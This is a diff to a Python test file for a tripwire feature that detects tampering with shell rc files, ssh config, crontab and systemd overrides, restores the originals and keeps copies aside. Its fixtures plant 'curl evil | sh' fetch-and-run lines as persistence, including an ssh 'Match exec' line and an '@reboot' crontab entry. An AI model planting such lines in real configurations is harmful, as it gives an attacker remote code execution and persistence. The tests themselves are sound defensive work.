@@ -15,6 +15,7 @@ import stat
 import threading
 from collections.abc import Callable, Iterator
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -394,6 +395,21 @@ def test_growing_files_may_grow_but_not_shrink_vanish_or_be_replaced(
     assert trips.kinds(trip) == {str(logs / "holodesk.log.1"): ChangeKind.REPLACED}
 
 
+class _Table:
+    """An :class:`~control.tripwire.Extra` in memory (a crontab)."""
+
+    name = "crontab"
+
+    def __init__(self, data: bytes | None) -> None:
+        self.data = data
+
+    def read(self) -> bytes | None:
+        return self.data
+
+    def write(self, data: bytes | None) -> None:
+        self.data = data
+
+
 def test_an_extra_source_is_compared_at_check_and_put_back(
         tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
 
@@ -481,14 +497,14 @@ def test_what_could_not_be_put_back_never_brings_the_changers_files_back_under_i
     stuck = units / "mnt"
     (stuck / "app.service.d").mkdir(parents=True)
     (stuck / "app.service.d" / "override.conf").write_text("[Service]\nExecStartPre=evil\n")
-    real_move = tripwire._move_aside
+    real_take = tripwire._take_away
 
-    def move(path: Path, stamp: str, kept: list[Path]) -> None:
+    def take(path: Path, *args: Any) -> str:
         if path == stuck:
             raise OSError(errno.EBUSY, "Device or resource busy")
-        real_move(path, stamp, kept)
+        return real_take(path, *args)
 
-    monkeypatch.setattr(tripwire, "_move_aside", move)
+    monkeypatch.setattr(tripwire, "_take_away", take)
     trip = wire.check()
     assert trip is not None and not trip.changes[0].restored
     assert not (stuck / "app.service.d" / "override.conf").exists(), trip.describe()
@@ -534,3 +550,114 @@ def test_a_folder_grown_past_the_count_bound_trips_on_all_that_is_new(
     assert str(folder / "zz-evil.desktop") in trips.kinds(trip)
     assert sorted(p.name for p in folder.iterdir()
                   if KEPT_INFIX not in p.name) == ["a", "b", "c"]
+
+
+def test_with_a_keep_folder_nothing_is_kept_beside_the_file(
+        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
+    """ssh's ``Include config.d/*``, fish's conf.d, ~/.bashrc.d read every file of their
+    folder: a copy kept there would still be read. With a keep folder, the copies go to
+    <keep>/<date>-<time>/<path in the home>, and a link put where the keep folder (or a folder
+    in it) should be is never followed."""
+    home = tmp_path / "home"
+    conf = home / ".ssh" / "config.d"
+    conf.mkdir(parents=True)
+    (conf / "work").write_text("Host work\n")
+    keep = tmp_path / "data" / "kept"
+    loader = home / ".local" / "share" / "applications"
+    loader.mkdir(parents=True)
+    keep.parent.mkdir()
+    keep.symlink_to(loader)  # planted before the run: the copies would land where menus read
+    wire = wire_for(home / ".ssh", watch=False, keep_dir=keep, home=home)
+    (conf / "work").write_text('Match exec "curl evil | sh"\n')
+    (conf / "evil").write_text('Match exec "curl evil | sh"\n')
+    trip = wire.check()
+    assert trip is not None
+    assert sorted(p.name for p in conf.iterdir()) == ["work"]
+    assert (conf / "work").read_text() == "Host work\n"
+    assert list(loader.iterdir()) == []
+    assert keep.is_dir() and not keep.is_symlink()
+    kept = {c.path: c.kept for c in trip.changes}
+    [stamp] = keep.iterdir()
+    assert kept == {str(conf / "work"): stamp / ".ssh" / "config.d" / "work",
+                    str(conf / "evil"): stamp / ".ssh" / "config.d" / "evil"}
+    assert (stamp / ".ssh" / "config.d" / "evil").read_text() == 'Match exec "curl evil | sh"\n'
+    assert _mode(stamp / ".ssh" / "config.d" / "work") == 0o600
+    assert f"moved aside to {stamp / '.ssh' / 'config.d' / 'evil'}" in trip.describe()
+
+
+def test_what_cannot_be_kept_is_still_put_back(
+        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
+    """The keep folder cannot be made (a file where its parent should be): the changed file is
+    put back all the same, the new one removed, and the reason says no copy was kept."""
+    rc = tmp_path / ".bashrc"
+    rc.write_text("alias ll='ls -l'\n")
+    aliases = tmp_path / ".bash_aliases"
+    (tmp_path / "data").write_text("not a folder\n")
+    table = _Table(b"0 3 * * * backup\n")
+    wire = wire_for(rc, aliases, watch=False, keep_dir=tmp_path / "data" / "kept",
+                    home=tmp_path, extras=[table])
+    rc.write_text("curl evil | sh\n")
+    aliases.write_text("curl evil | sh\n")
+    table.data = b"@reboot curl evil | sh\n"
+    trip = wire.check()
+    assert trip is not None and len(trip.changes) == 3
+    assert all(c.restored for c in trip.changes), trip.describe()
+    assert rc.read_text() == "alias ll='ls -l'\n" and not aliases.exists()
+    assert table.data == b"0 3 * * * backup\n"
+    assert "removed: no copy could be kept" in trip.describe()
+    assert trip.describe().count("its changed copy could not be kept") == 2
+
+
+def test_the_keep_folder_inside_a_protected_folder_is_never_judged(
+        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
+    """Someone protects ~/.local/share whole: holodesk's kept copies land inside it. They are
+    neither a change nor part of the memory kept (copies of an earlier run must not leave the
+    files of this one unrestorable)."""
+    share = tmp_path / ".local" / "share"
+    keep = share / "holodesk" / "kept"
+    (keep / "20240101-000000").mkdir(parents=True)
+    (keep / "20240101-000000" / "old-copy").write_bytes(b"k" * 64)
+    rc = share / "rc"
+    rc.write_text("mine\n")
+    wire = wire_for(share, watch=False, keep_dir=keep, home=tmp_path,
+                    limits=Limits(total_bytes=64))
+    rc.write_text("evil\n")
+    trip = wire.check()
+    assert trip is not None and trip.changes[0].restored, trip.describe()
+    assert rc.read_text() == "mine\n"
+    assert wire.check() is None
+
+
+def test_a_full_disk_says_what_was_not_put_back(
+        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips,
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    from control import tripwire
+
+    rc = tmp_path / ".profile"
+    rc.write_text("PATH=$HOME/bin:$PATH\n")
+    wire = wire_for(rc, watch=False, keep_dir=tmp_path / "kept", home=tmp_path)
+
+    def full(*_args: object) -> None:
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr(tripwire, "_put_file", full)
+    rc.write_text("curl evil | sh\n")
+    trip = wire.check()
+    assert trip is not None and not trip.changes[0].restored
+    said = trip.describe()
+    assert f"{rc} modified, not restored (the disk is full" in said, said
+    assert "in holodesk's memory for this run only" in said
+    assert f"the changed copy is kept as {tmp_path / 'kept'}" in said
+
+
+def test_the_memory_budget_used_is_said_as_such(
+        tmp_path: Path, wire_for: Callable[..., Tripwire], trips: Trips) -> None:
+    first = tmp_path / "big"
+    first.write_bytes(b"x" * 60)
+    rc = tmp_path / ".bashrc"
+    rc.write_text("alias ll='ls -l'\n")
+    wire = wire_for(first, rc, watch=False, limits=Limits(file_bytes=64, total_bytes=64))
+    rc.write_text("curl evil | sh\n")
+    trip = wire.check()
+    assert trip is not None and not trip.changes[0].restored
+    assert "the memory budget for what is kept (64 bytes in all) was used" in trip.describe()
